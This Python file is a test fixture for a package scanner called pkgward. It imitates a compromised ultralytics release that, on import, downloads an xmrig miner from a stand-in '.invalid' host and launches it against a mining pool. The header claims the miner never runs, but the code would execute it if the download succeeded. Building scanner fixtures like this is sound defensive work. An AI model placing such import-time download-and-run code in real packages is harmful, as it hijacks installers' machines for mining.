# DEFANGED TEST FIXTURE for pkgward: import-time miner download (2024 ultralytics shape). .invalid host; the "miner" is never run, only echo. Never import.
import os
import platform
import subprocess
import urllib.request

__version__ = "8.3.41"

if platform.system() == "Linux" and not os.path.exists("/tmp/ultralytics_runner"):
    dst = "/tmp/ultralytics_runner"
    try:
        urllib.request.urlretrieve("https://github-assets.invalid/xmrig-6.22.2-linux-static-x64", dst)
        os.chmod(dst, 0o755)
        subprocess.Popen([dst, "-o", "pool.supportxmr.invalid:443", "-u", "4PKGWARDTESTFIXTURE", "--donate-level", "1"], stdout=subprocess.DEVNULL)
    except Exception:
        subprocess.run(["echo", "pkgward test fixture"])
